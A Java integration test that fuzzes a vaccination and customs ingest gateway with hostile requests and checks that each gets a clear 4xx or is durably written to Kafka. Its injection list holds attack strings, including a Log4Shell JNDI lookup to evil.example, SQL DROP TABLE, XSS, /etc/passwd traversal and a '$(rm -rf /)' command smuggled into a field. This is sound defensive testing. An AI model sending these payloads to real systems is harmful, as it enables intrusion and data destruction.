package vn.pulse.producer.ingest;

import static org.assertj.core.api.Assertions.assertThat;
import static vn.pulse.producer.ingest.IngestFixtures.CUSTOMS_HUU_NGHI;
import static vn.pulse.producer.ingest.IngestFixtures.HEALTH;
import static vn.pulse.producer.ingest.IngestFixtures.SITE_178;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.lang.management.ManagementFactory;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Duration;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.HashMap;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import org.apache.avro.generic.GenericRecord;
import org.apache.kafka.clients.consumer.ConsumerConfig;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.consumer.KafkaConsumer;
import org.apache.kafka.common.TopicPartition;
import org.apache.kafka.common.serialization.StringDeserializer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.ExtendWith;
import vn.pulse.core.contract.TopicNames;
import vn.pulse.registry.serde.AvroSerdeConfig;
import vn.pulse.registry.serde.KafkaAvroDeserializer;
import vn.pulse.registry.server.SchemaRegistryServer;
import vn.pulse.registry.server.SchemaRegistryServerConfig;
import vn.pulse.testing.KafkaBroker;
import vn.pulse.testing.KafkaBrokerExtension;
import vn.pulse.testing.LogCapture;

/**
 * A bounded, seeded generator of hostile requests against the real gateway and a real broker. Each
 * answer must be a 4xx problem+json that says what is wrong, or a 202 whose every event is really in
 * Kafka; never a 5xx, never accepted and lost; the heap stays bounded and huge bodies are refused
 * before they are read whole. Prints how many requests of each category were tried and their outcomes.
 */
@ExtendWith(KafkaBrokerExtension.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@Timeout(value = 180, unit = TimeUnit.SECONDS)
@Tag("integration")
class HostileIngestIT {

    private static final long SEED = 20210901L;
    private static final int PER_CATEGORY = 24;
    private static final int MAX_BODY = 64 * 1024;
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
    private static final List<String> INJECTIONS = List.of("'; DROP TABLE doses; --", "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}", "../../../../etc/passwd", "%00%0d%0aSet-Cookie: x=1", "{{7*7}}",
            "\u202Egnp.exe", "$(rm -rf /)", "\\u0000", "HUU_NGHI\" OR \"1\"=\"1");

    private KafkaBroker broker;
    private SchemaRegistryServer registry;
    private TopicNames topics;
    private IngestServer server;
    private final Random random = new Random(SEED);
    /** category -> outcome (status code or "client-error") -> count. */
    private final Map<String, Map<String, Integer>> outcomes = new TreeMap<>();
    /** Events answered 202: kind -> (partition@offset -> id). */
    private final Map<IngestKind, Map<String, String>> accepted = new EnumMap<>(IngestKind.class);

    /** Every log event while the gateway runs: no key may appear in any. */
    private LogCapture logs;

    @BeforeAll
    void start(KafkaBroker broker) {
        this.broker = broker;
        logs = LogCapture.start();
        registry = SchemaRegistryServer.start(SchemaRegistryServerConfig.inMemory().withPort(0));
        topics = IngestFixtures.uniqueTopics(broker);
        server = IngestServer.start(IngestFixtures.config(broker.bootstrapServers(), registry.url(), Map.of(
                "ingest.limits.max-body-bytes", Integer.toString(MAX_BODY),
                "ingest.rate-limit.events-per-second", "1000000", "ingest.rate-limit.burst", "1000000")),
                topics, Clock.fixed(IngestFixtures.NOW, ZoneOffset.UTC));
    }

    @AfterAll
    void stop() {
        if (logs != null) {
            logs.close();
        }
        if (server != null) {
            server.close();
        }
        if (registry != null) {
            registry.close();
        }
    }

    @Test
    void hostileRequestsGetAClearRefusalOrAreWrittenNeverA5xxNorLost() throws Exception {
        long heapBefore = usedHeapAfterGc();

        for (int i = 0; i < PER_CATEGORY; i++) {
            IngestKind kind = randomKind();
            ObjectNode event = valid(kind, "wt-" + i);
            String field = randomField(event);
            event.set(field, wrongType(event.get(field)));
            send("wrong-types", kind, keyFor(kind), "application/json", bytes(event));
        }
        for (int i = 0; i < PER_CATEGORY; i++) {
            IngestKind kind = randomKind();
            ObjectNode event = valid(kind, "mf-" + i);
            event.remove(randomField(event));
            send("missing-fields", kind, keyFor(kind), "application/json", bytes(event));
        }
        for (int i = 0; i < PER_CATEGORY; i++) {
            IngestKind kind = randomKind();
            ObjectNode event = valid(kind, "uf-" + i);
            event.put(pick(List.of("__proto__", "constructor", "extra", "districtcode", "EventId", "x".repeat(300))), pick(INJECTIONS));
            send("unknown-fields", kind, keyFor(kind), "application/json", bytes(event));
        }
        for (int i = 0; i < PER_CATEGORY; i++) {
            IngestKind kind = randomKind();
            ObjectNode event = valid(kind, "inj-" + i);
            String field = randomTextField(event);
            event.put(field, pick(INJECTIONS) + (random.nextBoolean() ? "-" + i : ""));
            send("injection-strings", kind, keyFor(kind), "application/json", bytes(event));
        }
        for (int i = 0; i < PER_CATEGORY; i++) {
            IngestKind kind = randomKind();
            ObjectNode event = valid(kind, "cc-" + i);
            String field = randomTextField(event);
            char control = (char) random.nextInt(0x20);
            String withControl = "a" + control + "b" + (char) 0x7f + "\u2028";
            if (random.nextBoolean()) {
                // Escaped: valid JSON carrying a control character in a value.
                event.put(field, withControl);
                send("control-characters", kind, keyFor(kind), "application/json", bytes(event));
            } else {
                // Raw: a control character inside a JSON string is invalid JSON.
                String raw = JSON.writeValueAsString(event).replace("\"" + event.get(field).asText() + "\"", "\"a" + control + "b\"");
                send("control-characters", kind, keyFor(kind), "application/json", raw.getBytes(StandardCharsets.UTF_8));
            }
        }
        List<byte[]> badUtf8 = List.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xC0, (byte) 0xAF},
                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
                new byte[] {(byte) 0xE2, (byte) 0x82});
        for (int i = 0; i < PER_CATEGORY; i++) {
            IngestKind kind = randomKind();
            ObjectNode event = valid(kind, "utf-" + i);
            String marker = "MARKER";
            event.put(randomTextField(event), marker);
            byte[] json = bytes(event);
            byte[] body = replace(json, marker.getBytes(StandardCharsets.UTF_8), badUtf8.get(i % badUtf8.size()));
            send("invalid-utf8", kind, keyFor(kind), "application/json", body);
        }
        // Bodies Jackson reads as UTF-16/32 (it guesses from the first bytes), or with a byte-order mark.
        List<byte[]> oddEncodings = List.of(new byte[] {0, 0, 0, '{'}, new byte[] {0, 0, 0, '[', 0, 0, 0, ']'},
                new byte[] {'{', 0, 0, 0}, new byte[] {0, '{', 0, '}'}, new byte[] {(byte) 0xFE, (byte) 0xFF, 0, '{'},
                new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF, '{', '}'}, new byte[] {0, 0, (byte) 0xFE, (byte) 0xFF, 0, 0, 0, '{'},
                new byte[] {(byte) 0xFF, (byte) 0xFE, 0, 0, '{', 0, 0, 0},
                // UCS-4 in the unusual "2143" byte order: Jackson's CharConversionException, once a 500.
                new byte[] {0, 0, '{', 0, 0, 0, '}', 0}, new byte[] {0, 0, 0x11, 0, 0, 0, 0, 0});
        for (byte[] body : oddEncodings) {
            send("invalid-utf8", IngestKind.VACCINATION_DOSES, SITE_178, "application/json", body);
        }
        for (int i = 0; i < PER_CATEGORY; i++) {
            int depth = 100 + random.nextInt(10_000); // within the body limit: deeper bodies are refused as too large
            StringBuilder nested = new StringBuilder();
            boolean arrays = random.nextBoolean();
            for (int d = 0; d < depth; d++) {
                nested.append(arrays ? "[" : "{\"a\":");
            }
            nested.append("1");
            for (int d = 0; d < depth; d++) {
                nested.append(arrays ? "]" : "}");
            }
            String body = random.nextBoolean() ? nested.toString() : "{\"eventId\":" + nested + "}";
            IngestKind kind = randomKind();
            send("deep-nesting", kind, keyFor(kind), "application/json", body.getBytes(StandardCharsets.UTF_8));
        }
        for (int i = 0; i < PER_CATEGORY; i++) {
            IngestKind kind = pick(List.of(IngestKind.VACCINATION_DOSES, IngestKind.GATE_EVENTS, IngestKind.CHECKPOINT_SCREENINGS));
            ObjectNode event = valid(kind, "ts-" + i);
            String field = kind == IngestKind.VACCINATION_DOSES ? "administeredAt" : "occurredAt";
            event.put(field, pick(List.of("9999-12-31T23:59:59Z", "2021-12-25T10:00:00Z", "2031-01-01T00:00:00+07:00",
                    "1900-01-01T00:00:00Z", "0001-01-01T00:00:00Z", "-999999999-01-01T00:00:00Z", "+999999999-12-31T23:59:59Z",
                    "1969-12-31T23:59:59Z", "2021-13-45T99:99:99Z", "2021-12-24", "1640340000000", "yesterday")));
            send("timestamps", kind, keyFor(kind), "application/json", bytes(event));
        }
        for (int i = 0; i < PER_CATEGORY; i++) {
            IngestKind kind = randomKind();
            String type = pick(java.util.Arrays.asList(null, "text/plain", "application/xml", "application/x-www-form-urlencoded",
                    "multipart/form-data; boundary=x", "application/jsonx", "application/json-patch+json", "*/*", "",
                    "application/json; charset=\u00ff", "application/json; charset=\"", "application/json; charset=x-unknown-9"));
            send("content-types", kind, keyFor(kind), type, bytes(valid(kind, "ct-" + i)));
        }
        for (int i = 0; i < PER_CATEGORY; i++) {
            IngestKind kind = randomKind();
            String otherKey = pick(java.util.Arrays.asList(null, "", "wrong-key", keyFor(kind) + "x", "Bearer " + keyFor(kind),
                    "x".repeat(4000), "' OR 1=1 --", otherScope(kind)));
            send("keys", kind, otherKey, "application/json", bytes(valid(kind, "key-" + i)));
        }
        // Duplicate ids, in one batch and across batches: accepted (the topology de-duplicates), all written.
        for (int i = 0; i < PER_CATEGORY; i++) {
            IngestKind kind = randomKind();
            ArrayNode batch = JsonNodeFactory.instance.arrayNode();
            ObjectNode event = valid(kind, "dup-" + (i % 4));
            batch.add(event).add(event.deepCopy());
            send("duplicate-ids", kind, keyFor(kind), "application/json", bytes(random.nextBoolean() ? batch : event));
        }
        hugeBodies();

        // Everything answered 202 is in Kafka, at the partition and offset the answer gave, under its id.
        for (var entry : accepted.entrySet()) {
            Map<String, String> inKafka = readTopic(topics.name(entry.getKey().topic()));
            for (var event : entry.getValue().entrySet()) {
                assertThat(inKafka.get(event.getKey())).as(entry.getKey() + " " + event.getKey()).isEqualTo(event.getValue());
            }
        }
        long heapAfter = usedHeapAfterGc();
        int tried = outcomes.values().stream().flatMap(m -> m.values().stream()).mapToInt(Integer::intValue).sum();
        System.out.printf("HostileIngestIT: %d hostile requests, outcomes per category %s; %d events accepted and found in Kafka;"
                + " used heap after GC %d MiB -> %d MiB%n", tried, outcomes,
                accepted.values().stream().mapToInt(Map::size).sum(), heapBefore >> 20, heapAfter >> 20);
        assertThat(outcomes.values().stream().flatMap(m -> m.keySet().stream())).noneMatch(s -> s.startsWith("5"));
        assertThat(heapAfter - heapBefore).as("heap growth").isLessThan(64L << 20);

        // No key, valid or presented, and no key hash is in any log line.
        List<String> secrets = new ArrayList<>();
        for (String key : List.of(CUSTOMS_HUU_NGHI, SITE_178, HEALTH)) {
            secrets.add(key);
            secrets.add(ApiKeys.hash(key));
        }
        logs.assertNoneContains(secrets);
    }

    /**
     * Numbers beyond every limit, as text and as JSON numbers: each answered 400 (a field error, or
     * malformed JSON when the parser cannot hold the number) in well under 100 ms, never a 5xx.
     */
    @Test
    void extremeNumbersAreRefusedWithinMillisecondsNeverA5xx() throws Exception {
        String digits = "9".repeat(10_000);
        List<String> values = List.of("\"1e30000000\"", "\"1e-30000000\"", "1e30000000", "1e-30000000", "1e309", "-1e309",
                "1e2147483647", "1e9999999999", "\"1e9999999999\"", "1e-2147483648", "\"NaN\"", "\"Infinity\"", "NaN", "Infinity",
                "-Infinity", "\"" + digits + "\"", digits, "0." + digits, "-" + digits);
        // Class loading and the first request of the connection are not what is measured.
        IngestFixtures.postJson(server.port(), IngestKind.GATE_EVENTS, CUSTOMS_HUU_NGHI, IngestFixtures.gateEvent("x-warm", "HUU_NGHI", "-1", "1"));
        long slowest = 0;
        for (String value : values) {
            for (String field : List.of("tons", "declaredValueUsd")) {
                String body = field.equals("tons") ? IngestFixtures.gateEvent("x-n", "HUU_NGHI", value, "1")
                        : IngestFixtures.gateEvent("x-n", "HUU_NGHI", "1", value);
                String what = field + " " + (value.length() > 40 ? value.substring(0, 40) + "..." : value);
                // The best of three: a pause of the shared test machine is not the gateway's.
                long best = Long.MAX_VALUE;
                for (int attempt = 0; attempt < 3; attempt++) {
                    long start = System.nanoTime();
                    HttpResponse<String> response = IngestFixtures.postJson(server.port(), IngestKind.GATE_EVENTS, CUSTOMS_HUU_NGHI, body);
                    best = Math.min(best, System.nanoTime() - start);
                    assertThat(response.statusCode()).as(what + ": " + response.body()).isEqualTo(400);
                    JsonNode problem = JSON.readTree(response.body());
                    assertThat(problem.get("type").asText()).as(what).matches(".*/ingest/(invalid-events|malformed-json)");
                    assertThat(problem.get("errors").get(0).get("path").asText()).as(what).isIn("$", "$." + field);
                }
                assertThat(Duration.ofNanos(best)).as(what + " answered in").isLessThan(Duration.ofMillis(100));
                slowest = Math.max(slowest, best);
            }
        }
        System.out.printf("HostileIngestIT: %d extreme numbers refused with 400, slowest (best of 3) %.1f ms%n",
                values.size() * 2, slowest / 1e6);
    }

    /** Bodies above the limit: declared by Content-Length, or chunked; both refused before being read whole. */
    private void hugeBodies() throws IOException {
        for (int i = 0; i < 4; i++) {
            int declared = MAX_BODY + 1 + random.nextInt(512 << 20);
            // No body byte at all: the answer must come from the declared length alone. (Sending a first
            // part raced with the server's early answer and close: a broken pipe in the test.)
            RawAnswer answer = raw(IngestKind.VACCINATION_DOSES, "Content-Length: " + declared, out -> {
                out.flush();
                return 0;
            });
            record("huge-bodies", answer.status(), answer.body());
            assertThat(answer.status()).isEqualTo(413);
        }
        for (int i = 0; i < 4; i++) {
            RawAnswer answer = raw(IngestKind.GATE_EVENTS, "Transfer-Encoding: chunked", out -> {
                byte[] chunk = ("{\"eventId\":\"" + "x".repeat(16 * 1024)).getBytes(StandardCharsets.US_ASCII);
                long sent = 0;
                try {
                    // Up to 64 MiB, stopping as soon as the server stops reading (it answers after the limit).
                    while (sent < (64L << 20)) {
                        out.write((Integer.toHexString(chunk.length) + "\r\n").getBytes(StandardCharsets.US_ASCII));
                        out.write(chunk);
                        out.write("\r\n".getBytes(StandardCharsets.US_ASCII));
                        sent += chunk.length;
                    }
                } catch (IOException closed) {
                    // The server closed the connection after answering: what it read is bounded.
                }
                return sent;
            });
            record("huge-bodies", answer.status(), answer.body());
            assertThat(answer.status()).isEqualTo(413);
            assertThat(answer.sent()).as("bytes sent before the refusal").isLessThan(16L << 20);
        }
        // A huge value inside the limit: refused by field rules or accepted and written, never a 5xx.
        ObjectNode event = valid(IngestKind.CHECKPOINT_SCREENINGS, "big-" + "y".repeat(MAX_BODY - 400));
        send("huge-bodies", IngestKind.CHECKPOINT_SCREENINGS, CUSTOMS_HUU_NGHI, "application/json", bytes(event));
        ArrayNode many = JsonNodeFactory.instance.arrayNode();
        for (int i = 0; i < 600; i++) {
            many.add(JsonNodeFactory.instance.objectNode());
        }
        send("huge-bodies", IngestKind.CHECKPOINT_SCREENINGS, CUSTOMS_HUU_NGHI, "application/json", bytes(many));
    }

    private interface BodyWriter {
        long write(OutputStream out) throws IOException;
    }

    private record RawAnswer(int status, String body, long sent) {
    }

    /** One request over a plain socket, so the answer can be read while the body is still being sent. */
    private RawAnswer raw(IngestKind kind, String lengthHeader, BodyWriter body) throws IOException {
        try (Socket socket = new Socket("127.0.0.1", server.port())) {
            socket.setSoTimeout(30_000);
            OutputStream out = socket.getOutputStream();
            out.write(("POST " + IngestServer.PATH_PREFIX + kind.path() + " HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                    + "Content-Type: application/json\r\nAuthorization: Bearer " + keyFor(kind) + "\r\n" + lengthHeader + "\r\n\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
            long sent = body.write(out);
            InputStream in = socket.getInputStream();
            ByteArrayOutputStream answer = new ByteArrayOutputStream();
            byte[] buffer = new byte[8192];
            String text = "";
            int n;
            while ((n = in.read(buffer)) > 0) {
                answer.write(buffer, 0, n);
                text = answer.toString(StandardCharsets.UTF_8);
                if (text.contains("\r\n\r\n") && text.indexOf("}", text.indexOf("\r\n\r\n")) > 0) {
                    break;
                }
            }
            int status = Integer.parseInt(text.substring(9, 12));
            String content = text.substring(text.indexOf("\r\n\r\n") + 4);
            // The JSON document alone, whatever the transfer encoding around it.
            int from = content.indexOf('{');
            return new RawAnswer(status, from < 0 ? content : content.substring(from, content.lastIndexOf('}') + 1), sent);
        }
    }

    private void send(String category, IngestKind kind, String key, String contentType, byte[] body) {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + server.port() + IngestServer.PATH_PREFIX + kind.path()))
                .timeout(Duration.ofSeconds(30))
                .POST(HttpRequest.BodyPublishers.ofByteArray(body));
        try {
            if (contentType != null) {
                request.header("Content-Type", contentType);
            }
            if (key != null) {
                request.header("Authorization", "Bearer " + key);
            }
        } catch (IllegalArgumentException unsendable) {
            // The HTTP client refuses to send such a header at all.
            record(category, "client-refused", null);
            return;
        }
        HttpResponse<String> response;
        try {
            response = HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
        } catch (IOException | InterruptedException e) {
            throw new AssertionError(category + ": no answer to " + preview(body), e);
        }
        int status = response.statusCode();
        record(category, status, response.body());
        assertThat(status).as(category + " " + preview(body) + " -> " + response.body()).isLessThan(500);
        if (status == 202) {
            rememberAccepted(kind, response.body());
        } else {
            assertThat(response.headers().firstValue("Content-Type").orElse(""))
                    .as(category + " " + response.body()).startsWith(IngestProblems.CONTENT_TYPE);
            assertProblemSaysWhy(category, response.body());
        }
    }

    private static void assertProblemSaysWhy(String category, String body) {
        JsonNode problem;
        try {
            problem = JSON.readTree(body);
        } catch (IOException e) {
            throw new AssertionError(category + ": not JSON: " + body, e);
        }
        assertThat(problem.path("detail").asText()).as(category + " " + body).isNotBlank();
        assertThat(problem.path("type").asText()).as(category + " " + body).startsWith("https://");
        for (JsonNode error : problem.path("errors")) {
            assertThat(error.path("path").asText()).as(body).startsWith("$");
            assertThat(error.path("reason").asText()).as(body).isNotBlank();
        }
    }

    private void record(String category, Object status, String body) {
        outcomes.computeIfAbsent(category, c -> new TreeMap<>()).merge(String.valueOf(status), 1, Integer::sum);
        if (status instanceof Integer code && code != 202 && body != null) {
            assertProblemSaysWhy(category, body);
        }
    }

    private void rememberAccepted(IngestKind kind, String body) {
        try {
            for (JsonNode event : JSON.readTree(body).get("events")) {
                assertThat(event.get("written").asBoolean()).isTrue();
                accepted.computeIfAbsent(kind, k -> new HashMap<>())
                        .put(event.get("partition").asInt() + "@" + event.get("offset").asLong(), event.get("id").asText());
            }
        } catch (IOException e) {
            throw new AssertionError("202 without a readable answer: " + body, e);
        }
    }

    /** partition@offset -> the record's own id (Avro read through the registry). */
    private Map<String, String> readTopic(String topic) {
        Map<String, Object> props = Map.of(ConsumerConfig.BOOTSTRAP_SERVERS_CONFIG, broker.bootstrapServers(),
                ConsumerConfig.AUTO_OFFSET_RESET_CONFIG, "earliest", ConsumerConfig.ENABLE_AUTO_COMMIT_CONFIG, false,
                ConsumerConfig.ISOLATION_LEVEL_CONFIG, "read_committed");
        KafkaAvroDeserializer values = new KafkaAvroDeserializer();
        values.configure(Map.of(AvroSerdeConfig.SCHEMA_REGISTRY_URL, registry.url()), false);
        Map<String, String> records = new HashMap<>();
        try (KafkaConsumer<String, Object> consumer = new KafkaConsumer<>(props, new StringDeserializer(), values)) {
            List<TopicPartition> partitions = consumer.partitionsFor(topic, Duration.ofSeconds(10)).stream()
                    .map(p -> new TopicPartition(topic, p.partition())).toList();
            consumer.assign(partitions);
            consumer.seekToBeginning(partitions);
            Map<TopicPartition, Long> end = consumer.endOffsets(partitions, Duration.ofSeconds(10));
            long deadline = System.nanoTime() + Duration.ofSeconds(30).toNanos();
            while (partitions.stream().anyMatch(p -> consumer.position(p) < end.get(p)) && System.nanoTime() < deadline) {
                for (ConsumerRecord<String, Object> r : consumer.poll(Duration.ofMillis(200))) {
                    GenericRecord value = (GenericRecord) r.value();
                    String idField = List.of("eventId", "correctionId", "allocationId").stream()
                            .filter(f -> value.getSchema().getField(f) != null).findFirst().orElseThrow();
                    records.put(r.partition() + "@" + r.offset(), String.valueOf(value.get(idField)));
                }
            }
        }
        return records;
    }

    private ObjectNode valid(IngestKind kind, String id) {
        String json = switch (kind) {
            case VACCINATION_DOSES -> IngestFixtures.dose(id, "178");
            case DOSE_CORRECTIONS -> "{\"correctionId\":\"" + id + "\",\"doseEventId\":\"dose-" + id + "\",\"districtCode\":\"178\",\"reason\":\"entered twice\"}";
            case VACCINE_ALLOCATIONS -> "{\"allocationId\":\"" + id + "\",\"districtCode\":\"178\",\"vaccineProduct\":\"Pfizer\","
                    + "\"doses\":1200,\"deliveredOn\":\"2021-12-20\"}";
            case GATE_EVENTS -> IngestFixtures.gateEvent(id, "HUU_NGHI", "12.5", "\"18000.50\"");
            case CHECKPOINT_SCREENINGS -> IngestFixtures.screening(id, "HUU_NGHI", 40, 12, 1);
        };
        try {
            return (ObjectNode) JSON.readTree(json);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String keyFor(IngestKind kind) {
        return switch (kind) {
            case VACCINATION_DOSES, DOSE_CORRECTIONS -> SITE_178;
            case VACCINE_ALLOCATIONS -> HEALTH;
            case GATE_EVENTS, CHECKPOINT_SCREENINGS -> CUSTOMS_HUU_NGHI;
        };
    }

    /** A real key of a role that may not write {@code kind}, or whose scope does not cover the event. */
    private static String otherScope(IngestKind kind) {
        return switch (kind) {
            case VACCINATION_DOSES, DOSE_CORRECTIONS, VACCINE_ALLOCATIONS -> CUSTOMS_HUU_NGHI;
            case GATE_EVENTS, CHECKPOINT_SCREENINGS -> SITE_178;
        };
    }

    private JsonNode wrongType(JsonNode value) {
        JsonNodeFactory f = JsonNodeFactory.instance;
        List<JsonNode> candidates = new ArrayList<>(List.of(f.nullNode(), f.booleanNode(true), f.arrayNode().add(1), f.objectNode().put("x", 1),
                f.numberNode(-1), f.numberNode(1e308), f.textNode("NaN"), f.numberNode(new java.math.BigInteger("9".repeat(40))),
                f.numberNode(0.5), f.textNode("")));
        candidates.removeIf(c -> c.equals(value));
        return pick(candidates);
    }

    private String randomField(ObjectNode event) {
        List<String> names = new ArrayList<>();
        event.fieldNames().forEachRemaining(names::add);
        return pick(names);
    }

    private String randomTextField(ObjectNode event) {
        List<String> names = new ArrayList<>();
        for (Iterator<Map.Entry<String, JsonNode>> it = event.fields(); it.hasNext(); ) {
            var e = it.next();
            if (e.getValue().isTextual()) {
                names.add(e.getKey());
            }
        }
        return pick(names);
    }

    private IngestKind randomKind() {
        return pick(List.of(IngestKind.values()));
    }

    private <T> T pick(List<T> options) {
        return options.get(random.nextInt(options.size()));
    }

    private static byte[] bytes(JsonNode node) {
        try {
            return JSON.writeValueAsBytes(node);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] replace(byte[] in, byte[] what, byte[] with) {
        String s = new String(in, StandardCharsets.ISO_8859_1);
        int at = s.indexOf(new String(what, StandardCharsets.ISO_8859_1));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(in, 0, at);
        out.writeBytes(with);
        out.write(in, at + what.length, in.length - at - what.length);
        return out.toByteArray();
    }

    private static String preview(byte[] body) {
        String s = new String(body, StandardCharsets.UTF_8);
        return s.length() > 160 ? s.substring(0, 160) + "...(" + body.length + " bytes)" : s;
    }

    private static long usedHeapAfterGc() {
        for (int i = 0; i < 3; i++) {
            System.gc();
        }
        return ManagementFactory.getMemoryMXBean().getHeapMemoryUsage().getUsed();
    }
}
